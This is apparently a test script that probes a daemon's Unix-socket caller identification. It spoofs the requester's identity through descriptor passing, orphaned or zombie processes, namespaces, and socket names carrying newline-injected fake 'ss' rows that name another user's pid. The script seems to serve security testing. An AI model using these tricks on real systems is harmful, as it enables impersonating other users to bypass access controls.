# Asks the daemon for something over its socket, in ways that hide who asks. Prints the answer's status line and body.
#   attacker.py <socket> <method> <path> <body> <daemon's pid> <a person's pid> <trick> [argument]
import ctypes
import os
import socket
import subprocess
import sys
import threading
import time

SOCKET, METHOD, PATH, BODY, DAEMON, PERSON, TRICK = sys.argv[1:8]
ARGUMENT = sys.argv[8] if len(sys.argv) > 8 else ""
HEAD = f"{METHOD} {PATH} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {len(BODY)}\r\n\r\n"
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
libc = ctypes.CDLL(None)


def connect():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(SOCKET)
    return connection


def receive(connection):
    text = b""
    try:
        while chunk := connection.recv(65536):
            text += chunk
    except ConnectionResetError:
        pass
    print(text.decode(errors="replace"), flush=True)


def say_the_rest(connection):
    try:
        connection.sendall(BODY.encode())
    except BrokenPipeError:
        pass  # Refused before all of it was said.
    receive(connection)


def ask(connection=None):
    connection = connection or connect()
    connection.sendall((HEAD + BODY).encode())
    receive(connection)


def plain():
    ask()


def named():
    open("/proc/self/comm", "w").write(ARGUMENT.encode().decode("unicode_escape"))
    ask()


def half_closed():
    connection = connect()
    connection.sendall((HEAD + BODY).encode())
    connection.shutdown(socket.SHUT_WR)
    receive(connection)


def gone():
    connect().sendall((HEAD + BODY).encode())
    os._exit(0)


def slow_body():
    connection = connect()
    connection.sendall(HEAD.encode())
    time.sleep(0.3)
    say_the_rest(connection)


def body_by_a_child():
    connection = connect()
    connection.sendall(HEAD.encode())
    if os.fork() == 0:
        os.setsid()
        say_the_rest(connection)
        os._exit(0)
    os.wait()


def exec_into_another():
    connection = connect()
    connection.sendall((HEAD + BODY).encode())
    os.dup2(connection.fileno(), 0)
    os.execve("/bin/cat", ["cat"], {})


def passed_on():
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        os.setsid()
        _, [descriptor], _, _ = socket.recv_fds(theirs, 1, 1)
        ask(socket.socket(fileno=descriptor))
        os._exit(0)
    connection = connect()
    socket.send_fds(ours, [b"x"], [connection.fileno()])
    connection.close()
    os.wait()


def held_by_nobody():
    ours, theirs = socket.socketpair()
    connection = connect()
    connection.sendall((HEAD + BODY).encode())
    socket.send_fds(ours, [b"x"], [connection.fileno()])
    connection.close()
    time.sleep(1)
    _, [descriptor], _, _ = socket.recv_fds(theirs, 1, 1)
    receive(socket.socket(fileno=descriptor))


def held_by_a_stranger_too():
    connection = connect()
    os.set_inheritable(connection.fileno(), True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve("/bin/sleep", ["sleep", "2"], {})
        os._exit(0)
    os.wait()
    ask(connection)


def by_a_thread():
    thread = threading.Thread(target=ask)
    thread.start()
    thread.join()


def without_a_leader(act):
    def later():
        while " Z " not in open(f"/proc/{os.getpid()}/stat").read():
            time.sleep(0.01)
        act()
        os._exit(0)

    threading.Thread(target=later).start()
    libc.syscall(60 if os.uname().machine == "x86_64" else 93, 0)


def dead_leader():
    without_a_leader(ask)


def child_of_a_dead_leader():
    without_a_leader(
        lambda: subprocess.run([sys.executable, *sys.argv[:7], "plain"], env={}, start_new_session=True)
    )


def link_of_daemon(name):
    try:
        return os.readlink(f"/proc/{DAEMON}/fd/{name}")
    except FileNotFoundError:  # closed since it was listed
        return ""


def sockets_of_daemon():
    links = (link_of_daemon(name) for name in os.listdir(f"/proc/{DAEMON}/fd"))
    return {link[8:-1] for link in links if link.startswith("socket:")}


def forge(inode):
    """Sockets in the daemon's own network namespace whose names read like rows in which a person holds the other end."""
    kept = []
    rows = [f"* {inode} * 77", f'* 77 * {inode} users:(("sh",pid={PERSON},fd=3))']
    for index, row in enumerate(rows):
        server = socket.socket(socket.AF_UNIX)
        server.bind(f"\0s{inode}.{index}")
        server.listen()
        client = socket.socket(socket.AF_UNIX)
        client.bind(f"\0{index} 5 * 6\nu_str ESTAB 0 0 {row}\nu_str ESTAB 0 0 @z")
        client.connect(f"\0s{inode}.{index}")
        kept += [server, client]
    return kept


def forged_rows():
    before = sockets_of_daemon()
    connection = connect()
    time.sleep(0.2)
    kept = [forge(inode) for inode in sockets_of_daemon() - before]
    ask(connection)
    kept.clear()


def forged_rows_from_another_network():
    before = sockets_of_daemon()
    connected, forged = os.pipe(), os.pipe()
    if os.fork() == 0:
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
            os._exit(1)
        connection = connect()
        os.write(connected[1], b"x")
        os.read(forged[0], 1)
        ask(connection)
        os._exit(0)
    os.read(connected[0], 1)
    time.sleep(0.2)
    kept = [forge(inode) for inode in sockets_of_daemon() - before]
    os.write(forged[1], b"x")
    os.wait()
    kept.clear()


globals()[TRICK]()
